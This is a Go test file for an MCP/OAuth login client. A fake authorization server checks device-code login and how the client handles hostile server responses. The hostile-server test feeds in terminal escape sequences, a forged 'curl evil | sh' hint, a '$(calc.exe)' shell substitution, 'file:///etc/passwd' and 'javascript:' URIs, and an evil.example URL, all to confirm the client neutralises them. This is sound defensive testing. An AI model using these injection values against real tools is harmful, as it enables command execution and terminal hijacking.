package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// foreign is somebody else's MCP server and authorization server on one origin, which
// answers as a test says.
type foreign struct {
	origin string
	paths  map[string]http.HandlerFunc

	mu   sync.Mutex
	seen []string // the paths that were asked for
}

func newForeign(t *testing.T) *foreign {
	t.Helper()
	f := &foreign{}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f.mu.Lock()
		f.seen = append(f.seen, r.URL.Path)
		f.mu.Unlock()
		if answer, ok := f.paths[r.URL.Path]; ok {
			answer(w, r)
			return
		}
		http.NotFound(w, r)
	}))
	t.Cleanup(server.Close)
	f.origin = server.URL
	f.paths = map[string]http.HandlerFunc{
		"/mcp": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("WWW-Authenticate", `Bearer scope="notes"`)
			w.WriteHeader(http.StatusUnauthorized)
		},
		"/.well-known/oauth-protected-resource/mcp": answerJSON(200, map[string]any{"resource": f.origin + "/mcp", "authorization_servers": []string{f.origin}}),
		"/.well-known/oauth-authorization-server":   answerJSON(200, f.document()),
		"/register": answerJSON(201, map[string]any{"client_id": "c1", "redirect_uris": []string{}, "token_endpoint_auth_method": "none"}),
	}
	return f
}

func (f *foreign) document() map[string]any {
	return map[string]any{"issuer": f.origin, "authorization_endpoint": f.origin + "/authorize", "token_endpoint": f.origin + "/token",
		"registration_endpoint": f.origin + "/register", "device_authorization_endpoint": f.origin + "/device",
		"response_types_supported": []string{"code"}, "code_challenge_methods_supported": []string{"S256"},
		"grant_types_supported": []string{"authorization_code", "urn:ietf:params:oauth:grant-type:device_code"}, "token_endpoint_auth_methods_supported": []string{"none"}}
}

func (f *foreign) asked(path string) bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, seen := range f.seen {
		if seen == path {
			return true
		}
	}
	return false
}

func answerJSON(status int, v any) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		_ = json.NewEncoder(w).Encode(v)
	}
}

// --device shows the code and waits.
func TestLoginDevice(t *testing.T) {
	t.Parallel()
	f, w := newForeign(t), &world{home: t.TempDir()}
	f.paths["/device"] = answerJSON(200, map[string]any{"device_code": "secret-device-code", "user_code": "WDJB-MJHT", "interval": 1, "expires_in": 600,
		"verification_uri": f.origin + "/type", "verification_uri_complete": f.origin + "/type?code=WDJB-MJHT"})
	f.paths["/token"] = answerJSON(200, map[string]any{"access_token": "at-1", "token_type": "Bearer", "expires_in": 3600})
	got := w.run(t, "", "login", "--device", f.origin+"/mcp")
	if got.code != exitDone || !strings.Contains(got.out, "Logged in to") || !strings.Contains(got.out, "60 minutes, then log in again") {
		t.Errorf("login: %s", got)
	}
	for _, want := range []string{f.origin + "/type\n", "type the code  WDJB-MJHT", f.origin + "/type?code=WDJB-MJHT", "good for 10 minutes"} {
		if !strings.Contains(got.err, want) {
			t.Errorf("the person is not told %q: %s", want, got.err)
		}
	}
	if strings.Contains(got.String(), "secret-device-code") || strings.Contains(got.String(), "at-1") {
		t.Errorf("a secret is printed: %s", got)
	}
}

// Ostiary and others have no device grant: nothing is registered for it.
func TestLoginNoDeviceGrant(t *testing.T) {
	t.Parallel()
	f, w := newForeign(t), &world{home: t.TempDir()}
	document := f.document()
	delete(document, "device_authorization_endpoint")
	f.paths["/.well-known/oauth-authorization-server"] = answerJSON(200, document)
	got := w.run(t, "", "login", "--device", f.origin+"/mcp")
	if got.code != exitFailed || !strings.Contains(got.err, "has no device authorization grant") || !strings.Contains(got.err, "hint: leave --device out") || f.asked("/register") {
		t.Errorf("registered: %t, %s", f.asked("/register"), got)
	}
}

// What servers write into documents, errors and challenges does nothing to a terminal,
// and where they send people is looked at first.
func TestMM11_HostileServer(t *testing.T) {
	t.Parallel()
	bad := "x\x1b[2J\x1b]0;t\a\u202e\r\nhint: curl evil | sh"
	for _, tt := range []struct {
		name string
		edit func(f *foreign, document map[string]any)
		args []string
	}{
		{name: "registration error", edit: func(f *foreign, _ map[string]any) {
			f.paths["/register"] = answerJSON(400, map[string]any{"error": bad, "error_description": bad})
		}},
		{name: "client_id", edit: func(f *foreign, _ map[string]any) {
			f.paths["/register"] = answerJSON(201, map[string]any{"client_id": bad})
			f.paths["/token"] = answerJSON(200, map[string]any{"access_token": "at", "token_type": "Bearer"})
			f.paths["/device"] = answerJSON(200, map[string]any{"device_code": "d", "user_code": "u", "interval": 1, "expires_in": 60, "verification_uri": f.origin})
		}, args: []string{"--device"}},
		{name: "issuer", edit: func(_ *foreign, d map[string]any) { d["issuer"] = "https://" + bad }},
		{name: "MM-11 shell in the authorization endpoint", edit: func(_ *foreign, d map[string]any) { d["authorization_endpoint"] = "a:$(calc.exe)?" }},
		{name: "MM-11 file", edit: func(_ *foreign, d map[string]any) { d["authorization_endpoint"] = "file:///etc/passwd" }},
		{name: "MM-11 a flag", edit: func(_ *foreign, d map[string]any) { d["authorization_endpoint"] = "--help" }},
		{name: "MM-11 spaces and controls", edit: func(f *foreign, d map[string]any) { d["authorization_endpoint"] = f.origin + "/a b" + bad }},
		{name: "resource", edit: func(f *foreign, _ map[string]any) {
			f.paths["/.well-known/oauth-protected-resource/mcp"] = answerJSON(200, map[string]any{"resource": "https://" + bad, "authorization_servers": []string{f.origin}})
		}},
		{name: "user code", edit: func(f *foreign, _ map[string]any) {
			f.paths["/device"] = answerJSON(200, map[string]any{"device_code": "d", "user_code": bad, "expires_in": 60, "verification_uri": f.origin})
		}, args: []string{"--device"}},
		{name: "verification URI", edit: func(f *foreign, _ map[string]any) {
			f.paths["/device"] = answerJSON(200, map[string]any{"device_code": "d", "user_code": "u", "expires_in": 60, "verification_uri": "javascript:" + bad})
		}, args: []string{"--device"}},
		{name: "device error", edit: func(f *foreign, _ map[string]any) {
			f.paths["/device"] = answerJSON(400, map[string]any{"error": bad, "error_description": bad})
		}, args: []string{"--device"}},
		{name: "challenge", edit: func(f *foreign, _ map[string]any) {
			f.paths["/mcp"] = func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("WWW-Authenticate", fmt.Sprintf("Bearer resource_metadata=%q, error_description=%q", "https://evil.example/\u009b2J", "\u009b2J"))
				w.WriteHeader(http.StatusUnauthorized)
			}
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f, w := newForeign(t), &world{home: t.TempDir()}
			document := f.document()
			tt.edit(f, document)
			f.paths["/.well-known/oauth-authorization-server"] = answerJSON(200, document)
			for _, command := range []string{"login", "call"} {
				got := w.run(t, "", append([]string{command, "--verbose", f.origin + "/mcp"}, tt.args...)...)
				if strings.ContainsFunc(got.out+got.err, unprintable) {
					t.Errorf("%s: a terminal would obey %q", command, got.out+got.err)
				}
				if strings.Contains(got.err, "\nhint: curl") {
					t.Errorf("%s: a server wrote the hint: %s", command, got.err)
				}
				if tt.name != "client_id" && got.code != exitFailed || w.browsed() > 0 {
					t.Errorf("%s: a browser was opened %d times, %s", command, w.browsed(), got)
				}
			}
		})
	}
}
